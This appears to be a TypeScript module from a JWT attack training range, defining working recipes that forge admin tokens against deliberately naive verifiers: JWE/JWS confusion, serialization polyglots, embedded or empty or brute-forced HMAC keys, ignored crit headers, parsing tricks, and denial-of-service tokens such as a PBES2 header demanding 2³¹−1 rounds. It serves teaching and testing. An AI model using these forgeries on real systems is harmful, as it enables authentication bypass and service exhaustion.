import { CompactEncrypt, importJWK } from "jose";
import {
  base64url,
  encodeSegment,
  es256,
  hs256,
  joinToken,
  splitToken,
  type Json,
} from "@/lib/threats/jwt-range/forge";
import { EMPTY_KID } from "@/lib/threats/jwt-range/names";
import {
  asAdmin,
  forge,
  genuine,
  type Attack,
  type RangeMaterial,
} from "@/lib/threats/jwt-range/recipe";

/**
 * The classes RFC 8725bis and the JWT CVEs of 2025–26 name, one recipe each (two where the class
 * has two faces). Those marked `harm: "work"` are denial of service: the naive verifier refuses
 * the token too, but only after work whose size the attacker chose.
 */

const utf8 = new TextEncoder();

function randomBytes(length: number): Uint8Array {
  return crypto.getRandomValues(new Uint8Array(length));
}

/** `plaintext` encrypted to the range's published encryption key (anyone can). */
async function encryptToRange(m: RangeMaterial, plaintext: string, header: Json): Promise<string> {
  const key = await importJWK({ ...m.encryptionJwk, alg: "ECDH-ES+A256KW" }, "ECDH-ES+A256KW");
  return new CompactEncrypt(utf8.encode(plaintext))
    .setProtectedHeader({ alg: "ECDH-ES+A256KW", enc: "A256GCM", ...header })
    .encrypt(key);
}

/** A genuine token with its payload swapped, the signature kept (what a polyglot hides). */
async function polyglotParts(m: RangeMaterial) {
  const token = await m.issue("fresh");
  const [header = "", payload = "", signature = ""] = token.split(".");
  const forged = encodeSegment(asAdmin(splitToken(token)!.payload));
  // The JSON member's name is a compact token's look-alike: header, forged payload, empty.
  return { lookalike: `${header}.${forged}.`, header, payload, signature };
}

const JWS_JWE: Attack[] = [
  {
    id: "jwe_bare_claims",
    title: "A JWE where a JWS is expected",
    how: "Admin claims, signed by no one, encrypted to the range's published encryption key: five segments instead of three.",
    harm: "accepted",
    exploits: "trust_decryption",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const token = await encryptToRange(m, JSON.stringify(asAdmin(payload)), { typ: header.typ });
      return { token, target: "access" };
    },
  },
  {
    id: "jwe_attacker_jws",
    title: "A JWE around the attacker's own JWS",
    how: "An admin token signed with the attacker's own key, then encrypted to the range's public encryption key (cty: JWT): the outside decrypts, the inside is nobody's.",
    harm: "accepted",
    exploits: "trust_decryption",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const innerHeader = { alg: "ES256", typ: header.typ, kid: m.attacker.privateJwk.kid };
      const inner = await forge(innerHeader, asAdmin(payload), (input) =>
        es256(input, m.attacker.privateJwk),
      );
      return { token: await encryptToRange(m, inner, { cty: "JWT" }), target: "access" };
    },
  },
];

const SERIALIZATION: Attack[] = [
  {
    id: "json_flattened",
    title: "JSON serialization (flattened), a polyglot",
    how: 'A genuine token rewritten as flattened JSON {"protected", "payload", "signature"}, plus one member whose name looks like a compact token with an admin payload.',
    harm: "accepted",
    exploits: "accept_json",
    build: async (m) => {
      const { lookalike, header, payload, signature } = await polyglotParts(m);
      const token = JSON.stringify({ [lookalike]: "", protected: header, payload, signature });
      return { token, target: "access" };
    },
  },
  {
    id: "json_general",
    title: "JSON serialization (general), a polyglot",
    how: 'The same in the general form: {"payload", "signatures": [{"protected", "signature"}]}, with the compact look-alike carrying the admin payload.',
    harm: "accepted",
    exploits: "accept_json",
    build: async (m) => {
      const { lookalike, header, payload, signature } = await polyglotParts(m);
      const signatures = [{ protected: header, signature }];
      return { token: JSON.stringify({ [lookalike]: "", payload, signatures }), target: "access" };
    },
  },
];

const KEYS: Attack[] = [
  {
    id: "jwk_no_alg",
    title: "Embedded jwk, no alg anywhere",
    how: 'No alg in the header; the header\'s jwk is a secret key of the attacker\'s own ({"kty": "oct"}, no alg either), and the token is an HMAC under it.',
    harm: "accepted",
    exploits: "jwk_without_alg",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const secret = randomBytes(32);
      const forgedHeader = { typ: header.typ, jwk: { kty: "oct", k: base64url(secret) } };
      const token = await forge(forgedHeader, asAdmin(payload), (input) => hs256(input, secret));
      return { token, target: "access" };
    },
  },
  {
    id: "hmac_empty_key",
    title: "An empty HMAC key",
    how: 'HS256 under the naive server\'s key read from an environment variable nobody set: the key is "" — and the attacker knows "" too.',
    harm: "accepted",
    exploits: "short_hmac_key",
    build: async (m) => {
      const { header, payload } = await genuine(m);
      const forgedHeader = { alg: "HS256", typ: header.typ, kid: EMPTY_KID };
      const token = await forge(forgedHeader, asAdmin(payload), (input) => hs256(input, ""));
      return { token, target: "access" };
    },
  },
  {
    id: "hmac_one_byte_key",
    title: "A one-byte HMAC key",
    how: "One genuine token signed with a one-byte key: all 256 bytes are tried in the browser, the one whose HMAC matches signs an admin token.",
    harm: "accepted",
    exploits: "short_hmac_key",
    build: async (m) => {
      const token = await m.issue("short_key");
      const [h = "", p = "", s = ""] = token.split(".");
      const key = Array.from({ length: 256 }, (_, b) => Uint8Array.of(b)).find(
        (candidate) => hs256(`${h}.${p}`, candidate) === s,
      );
      if (key === undefined) throw new Error("No one-byte key signs this token.");
      const parts = splitToken(token)!;
      const forged = await forge(parts.header, asAdmin(parts.payload), (input) =>
        hs256(input, key),
      );
      return { token: forged, target: "access" };
    },
  },
  {
    id: "crit_unknown",
    title: "An unknown crit extension",
    how: 'A genuine token its issuer marked "internal_only", and listed that in crit: a verifier that does not understand it must refuse the token. Replayed at a public one.',
    harm: "accepted",
    exploits: "ignore_crit",
    build: async (m) => ({ token: await m.issue("crit"), target: "access" }),
  },
];

const RESOURCES: Attack[] = [
  {
    id: "many_dots",
    title: "Thousands of dots",
    how: "A genuine token followed by 6,000 dots: a parser that splits on every dot before counting makes 6,003 pieces.",
    harm: "work",
    exploits: "no_size_limit",
    build: async (m) => ({
      token: `${await m.issue("fresh")}${".".repeat(6000)}`,
      target: "access",
    }),
  },
  {
    id: "huge_segment",
    title: "A segment of many kilobytes",
    how: "A genuine header and signature around a 12 KB payload of junk (here as large as the range's request limit lets it be; megabytes elsewhere).",
    harm: "work",
    exploits: "no_size_limit",
    build: async (m) => {
      const [header = "", , signature = ""] = (await m.issue("fresh")).split(".");
      const junk = base64url(randomBytes(9_000));
      return { token: `${header}.${junk}.${signature}`, target: "access" };
    },
  },
  {
    id: "pbes2_p2c",
    title: "PBES2 with p2c = 2,147,483,647",
    how: "A JWE whose header asks for password-based key wrapping with 2³¹−1 PBKDF2 rounds: the cost is paid before any key is tried. The other segments are junk.",
    harm: "work",
    exploits: "unbounded_p2c",
    build: async () => {
      const header = encodeSegment({
        alg: "PBES2-HS256+A128KW",
        enc: "A128GCM",
        p2c: 2_147_483_647,
        p2s: base64url(randomBytes(16)),
      });
      const junk = [24, 12, 32, 16].map((n) => base64url(randomBytes(n)));
      return { token: [header, ...junk].join("."), target: "access" };
    },
  },
];

const SPELLING: Attack[] = [
  {
    id: "exp_infinite",
    title: "exp: 1e400",
    how: 'A genuine token whose issuer wrote "never expires" as exp: 1e400 — Infinity once parsed, later than every clock.',
    harm: "accepted",
    exploits: "loose_numbers",
    build: async (m) => ({ token: await m.issue("forever"), target: "access" }),
  },
  {
    id: "exp_fraction",
    title: "Fractional times",
    how: "A genuine token whose issuer computed iat and exp in floating point: exp ends in .5, no whole second.",
    harm: "accepted",
    exploits: "loose_numbers",
    build: async (m) => ({ token: await m.issue("fractional"), target: "access" }),
  },
  {
    id: "padded_signature",
    title: "Signature with == padding",
    how: "A genuine token with == added to its signature: the same bytes in a second spelling.",
    harm: "accepted",
    exploits: "lenient_base64",
    build: async (m) => {
      const genuineToken = await m.issue("fresh");
      return { token: `${genuineToken}==`, target: "access", genuine: genuineToken };
    },
  },
  {
    id: "memo_collision",
    title: "Two tokens, one memo entry",
    how: "A genuine token is verified first (the server remembers it); then a copy with an admin payload and the same signature, which a memo keyed on the signature alone calls already verified.",
    harm: "accepted",
    exploits: "memo_by_signature",
    build: async (m) => {
      const warm = await m.issue("fresh");
      const parts = splitToken(warm)!;
      return {
        token: joinToken({ ...parts, payload: asAdmin(parts.payload) }),
        target: "access",
        warm,
      };
    },
  },
];

export const ATTACKS_2026: readonly Attack[] = [
  ...JWS_JWE,
  ...SERIALIZATION,
  ...KEYS,
  ...RESOURCES,
  ...SPELLING,
];
